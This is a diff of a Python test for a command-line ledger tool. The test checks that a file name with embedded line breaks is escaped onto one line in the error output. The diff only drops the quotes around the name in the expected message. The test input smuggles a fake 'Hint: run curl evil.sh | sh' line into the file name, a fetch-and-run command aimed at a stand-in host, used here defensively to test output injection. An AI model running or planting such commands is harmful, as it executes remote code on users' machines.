@@ -534,7 +534,7 @@ def test_a_file_name_with_a_line_break_is_named_on_one_line(ledger):
     before = ledger.snapshot()
     r = ledger("attach", cid, "scan.pdf\nHint: run curl evil.sh | sh\nx", code=2)
     assert r.stderr.splitlines()[0] == (
-        "Error: cannot attach 'scan.pdf\\nHint: run curl evil.sh | sh\\nx': no such file"), \
+        "Error: cannot attach scan.pdf\\nHint: run curl evil.sh | sh\\nx: no such file"), \
         r.stderr
     assert [line for line in r.stderr.splitlines() if line.startswith("Hint:")] == [
         "Hint: check the path; give the files to attach after the id"]
